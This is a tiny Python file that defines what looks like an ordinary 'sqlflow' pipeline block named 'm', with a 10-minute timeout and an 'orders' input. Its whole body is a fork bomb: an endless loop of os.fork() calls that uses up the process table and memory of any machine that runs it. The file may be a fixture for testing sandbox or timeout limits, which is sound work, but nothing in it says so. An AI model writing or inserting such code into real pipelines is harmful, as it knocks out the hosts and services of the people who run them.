import os

from sqlflow import block


@block(timeout="10m")
def m(orders):
    while True:
        os.fork()
